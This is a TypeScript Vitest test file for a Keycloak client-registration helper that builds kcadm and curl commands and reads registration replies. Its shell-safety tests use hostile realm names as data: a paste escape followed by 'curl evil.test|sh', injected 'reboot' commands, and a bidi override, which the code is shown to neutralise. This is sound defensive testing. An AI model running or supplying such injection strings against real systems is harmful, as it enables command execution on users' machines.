import { describe, expect, it } from 'vitest';
import { clientRepresentation, kcadmLine, quoted } from '../../../lib/keycloak/client-representation.ts';
import { curlLine, readRegistered, registrationRequest } from '../../../lib/keycloak/registration.ts';
import { signOutClient } from '../../support/addresses.ts';

const { redirectUris, postLogoutRedirectUris, webOrigins } = signOutClient();
const webOrigin = webOrigins[0] ?? '';
const KEYCLOAK = 'https://k/realms/a/clients-registrations';
const own = {
  redirectUris: redirectUris.filter((uri) => !uri.includes('allizom.org')),
  postLogoutUris: postLogoutRedirectUris.slice(0, 1),
  webOrigin,
};
const client = clientRepresentation('full-signout', own);

describe('the client to register', () => {
  it('holds exactly the addresses of both browsers', () => {
    expect(client.redirectUris).toEqual(redirectUris);
    expect(client.webOrigins).toEqual(webOrigins);
    expect(client.attributes['post.logout.redirect.uris']).toBe(postLogoutRedirectUris.join('##'));
  });

  it('has a page of ours to come back to after a sign-out, and none to sign in with', () => {
    const page = `${webOrigin}/signed-out.html`;
    expect(client.attributes['post.logout.redirect.uris']?.split('##')).toContain(page);
    expect(client.redirectUris.filter((uri) => !uri.endsWith('/signed-in'))).toEqual([]);
  });

  it('is a public one with the standard flow alone and S256', () => {
    const { redirectUris: _, webOrigins: __, attributes, ...kind } = client;
    expect(kind).toEqual({
      clientId: 'full-signout',
      name: 'Full Sign-out',
      protocol: 'openid-connect',
      publicClient: true,
      standardFlowEnabled: true,
      implicitFlowEnabled: false,
      directAccessGrantsEnabled: false,
      serviceAccountsEnabled: false,
    });
    expect(attributes['pkce.code.challenge.method']).toBe('S256');
  });

  it('adds the addresses of a build with another id', () => {
    const other = {
      redirectUris: ['https://x.chromiumapp.org/signed-in'],
      postLogoutUris: [],
      webOrigin: null,
    };
    expect(clientRepresentation('c', other).redirectUris).toEqual([...redirectUris, ...other.redirectUris]);
    expect(clientRepresentation('c', other).webOrigins).toEqual(webOrigins);
    const origin = 'chrome-extension://x';
    expect(clientRepresentation('c', { ...other, webOrigin: origin }).webOrigins).toEqual([
      ...webOrigins,
      origin,
    ]);
  });

  it('makes a command that a shell reads as meant', () => {
    expect(kcadmLine(client, 'https://sso.example/realms/our%20staff')).toContain("-r 'our staff' -b '{");
    expect(kcadmLine(client, 'https://sso.example/realms/50%')).toContain("-r '50%' -b '{");
    expect(kcadmLine(client, '')).toContain('-r REALM ');
    expect(kcadmLine(client, 'https://sso.example/realms/a/b')).toContain('-r REALM ');
    expect(quoted("it's")).toBe("'it'\\''s'");
    expect(['', 'a', '/a.b:c-d_1', '$a', 'a$'].map(quoted)).toEqual([
      "''",
      'a',
      '/a.b:c-d_1',
      "'$a'",
      "'a$'",
    ]);
  });

  it.each([
    ['ends a paste and runs what follows', '%1B%5B201~%0Acurl%20evil.test%7Csh%0A', 'REALM'],
    ['has a line end', 'a%0Ab', 'REALM'],
    ['reads backwards', '%E2%80%AEffats', 'REALM'],
    ['is an option', '--help', 'REALM'],
    ['would end the quotes', "'%3Breboot%3B'", "''\\'';reboot;'\\'''"],
    ['would be expanded', '%24(reboot)%60reboot%60!!', "'$(reboot)`reboot`!!'"],
  ])('makes a command that is safe to paste where a realm’s name %s', (_, name, word) => {
    const line = kcadmLine(client, `https://sso.example/realms/${name}`);
    expect(line).toContain(`-r ${word} -b '{`);
    expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
  });

  it('makes a command that is safe to paste whatever its client is called', () => {
    const named = { ...client, clientId: '\u001b[201~\n\u009b\u202e', name: "it's" };
    expect(kcadmLine(named, '')).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
    expect(quoted('\u0085\u2028')).toBe("' '");
  });
});

describe('a registration', () => {
  it('goes to Keycloak’s standard endpoint where the other’s answer could not be read', () => {
    const request = registrationRequest(`${KEYCLOAK}/openid-connect`, client, false);
    expect(request.url).toBe(`${KEYCLOAK}/openid-connect`);
    expect(request.body).toHaveProperty('redirect_uris', redirectUris);
  });

  it('gives Keycloak its own representation, Web Origins and all', () => {
    const request = registrationRequest(`${KEYCLOAK}/openid-connect`, client, true);
    expect(request).toEqual({ url: `${KEYCLOAK}/default`, body: client });
    expect(curlLine(request)).toMatch(/^curl -H 'Authorization: Bearer TOKEN' .*\/default$/);
  });

  it('gives any other OP the standard’s, without scope', () => {
    expect(registrationRequest('https://op/reg', client, true)).toEqual({
      url: 'https://op/reg',
      body: {
        client_name: 'Full Sign-out',
        application_type: 'native',
        token_endpoint_auth_method: 'none',
        grant_types: ['authorization_code'],
        response_types: ['code'],
        redirect_uris: redirectUris,
        post_logout_redirect_uris: postLogoutRedirectUris,
      },
    });
    const { body } = registrationRequest('https://op/reg', { ...client, attributes: {} }, true);
    expect(body).toHaveProperty('post_logout_redirect_uris', []);
  });

  it('is a line of a terminal too, in which the token has still to be named', () => {
    expect(curlLine({ url: 'https://op/reg?a=b', body: { client_name: "It's" } })).toBe(
      `curl -H 'Authorization: Bearer TOKEN' -H 'Content-Type: application/json' -d '{"client_name":"It'\\''s"}' 'https://op/reg?a=b'`,
    );
  });

  it.each([
    ['nothing is left', { clientId: 'c', webOrigins }, webOrigin, null],
    ['the Web Origin is left', { client_id: 'c' }, webOrigin, webOrigin],
    ['another one is there', { clientId: 'c', webOrigins: ['https://other'] }, webOrigin, webOrigin],
    ['Keycloak tells none', { clientId: 'c' }, webOrigin, webOrigin],
    ['no Web Origin is needed', { client_id: 'c' }, null, null],
  ])('is read: %s', (_, body, wanted, left) => {
    expect(readRegistered({ status: 201, body }, wanted)).toEqual({ clientId: 'c', webOrigin: left });
  });

  it.each([
    [403, { error: 'Invalid origin' }, 'registration-origin-refused', [webOrigin]],
    [
      401,
      { error: 'invalid_token', error_description: 'Failed decode token' },
      'registration-refused',
      ['HTTP 401', 'invalid_token', 'Failed decode token'],
    ],
    [
      400,
      { error: 'invalid_client_metadata', error_description: 'Client Identifier in use' },
      'client-exists',
      ['HTTP 400', 'invalid_client_metadata', 'Client Identifier in use'],
    ],
    [403, { error: 'insufficient_scope' }, 'registration-refused', ['HTTP 403', 'insufficient_scope']],
    [502, null, 'registration-refused', ['HTTP 502']],
    [400, { error_description: 'Client Identifier in use' }, 'registration-refused', ['HTTP 400']],
    [200, { client_id: 'c' }, 'registration-refused', ['HTTP 200']],
    [201, { surprising: true }, 'registration-refused', ['HTTP 201']],
    [201, { clientId: 7 }, 'registration-refused', ['HTTP 201']],
    [201, { clientId: 'c', webOrigins: 'all' }, 'registration-refused', ['HTTP 201']],
    [201, { clientId: 'c\u202e' }, 'registration-refused', ['HTTP 201']],
    [201, { client_id: 'c\u202e' }, 'registration-refused', ['HTTP 201']],
  ])('refused with %s %j is %s', (status, body, code, details) => {
    expect(() => readRegistered({ status, body }, webOrigin)).toThrow(
      expect.objectContaining({ code, details }),
    );
  });

  it('refused for its Origin names none where none can be registered', () => {
    expect(() => readRegistered({ status: 403, body: { error: 'Invalid origin' } }, null)).toThrow(
      expect.objectContaining({ code: 'registration-origin-refused', details: [] }),
    );
  });
});
